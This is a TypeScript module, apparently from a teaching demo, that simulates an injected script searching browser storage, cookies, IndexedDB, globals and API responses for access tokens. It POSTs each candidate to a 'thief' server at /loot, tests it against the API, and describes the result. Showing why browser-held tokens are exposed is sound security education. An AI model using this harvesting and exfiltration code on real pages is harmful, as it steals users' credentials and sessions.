// The injected script: it searches, shows its loot to the thief's server and tells what came of it.
// The same code runs in the demo page and in the page that keeps its token in localStorage.

import type { Outcome, ScriptAttack } from './messages'
import { claimsOf, type Finding } from './scan'
import {
  count,
  searchCookies,
  searchGlobals,
  searchIndexedDb,
  searchResponses,
  searchStorage,
  type Haul,
  type Probe,
} from './search'

/** The page that the script was injected into. */
export interface Victim {
  /** Origin of the thief's server. */
  thief: string
  /** Requests that the page makes and whose answers the script reads. */
  probes: Probe[]
  /** Calls the API as the page itself does. */
  call: () => Promise<Response>
  /** The outcome when the script can call the API through the page. */
  ride: Outcome
}

/** What the thief's server says about one string that it tried at the API. */
interface Loot {
  accepted: boolean
  got: string
}

/** Runs one attack of an injected script. */
export async function runScript(attack: ScriptAttack, victim: Victim): Promise<Outcome> {
  if (attack === 'ride') return ride(victim)
  return judge(await search(attack, victim), victim.thief)
}

async function search(attack: Exclude<ScriptAttack, 'ride'>, victim: Victim): Promise<Haul> {
  switch (attack) {
    case 'local-storage':
      return searchStorage('localStorage', localStorage)
    case 'session-storage':
      return searchStorage('sessionStorage', sessionStorage)
    case 'cookies':
      return searchCookies()
    case 'indexed-db':
      return searchIndexedDb()
    case 'globals':
      return searchGlobals()
    case 'responses':
      return searchResponses(victim.probes)
  }
}

/** Tries the loot from the thief's own server, with the most promising string first. */
async function judge({ read, findings }: Haul, thief: string): Promise<Outcome> {
  if (findings.length === 0) {
    return { verdict: 'nothing', headline: 'Nothing', text: `${read}, no string that looks like a token.` }
  }
  for (const found of findings.toSorted((a, b) => Number(b.jwt) - Number(a.jwt))) {
    const loot = await carryAway(found.value, thief)
    if (loot.accepted) return { verdict: 'taken', headline: 'Stolen', text: describe(found, findings, loot) }
  }
  const strings = count(findings.length, 'random-looking string', 'random-looking strings')
  return {
    verdict: 'limited',
    headline: 'Nothing that works',
    text: `${strings} in ${findings[0]?.where ?? 'the page'}. The thief tried them as tokens: the API refused.`,
  }
}

async function carryAway(value: string, thief: string): Promise<Loot> {
  const answer = await fetch(`${thief}/loot`, { method: 'POST', body: value })
  return (await answer.json()) as Loot
}

function describe(found: Finding, all: Finding[], loot: Loot): string {
  const more = all.length - 1
  const others = more > 0 ? ` (and ${count(more, 'more secret', 'more secrets')} beside it)` : ''
  return (
    `${article(found.value.length)} ${found.value.length}-character access token in ${found.where}${others}, ` +
    `usable from anywhere until it expires${expiry(found.value)}. ` +
    `The thief called the API with it from another server and got ${loot.got}`
  )
}

function expiry(jwt: string): string {
  const exp = claimsOf(jwt)?.['exp']
  return typeof exp === 'number' ? ` (${Math.max(0, Math.round(exp - Date.now() / 1000))} s from now)` : ''
}

/** "A 912-character", "An 812-character" (no token is shorter than 100 characters). */
function article(length: number): string {
  return String(length).startsWith('8') ? 'An' : 'A'
}

async function ride(victim: Victim): Promise<Outcome> {
  const answer = await victim.call()
  return answer.ok ? victim.ride : { verdict: 'nothing', headline: 'No', text: `The API answered ${answer.status}.` }
}
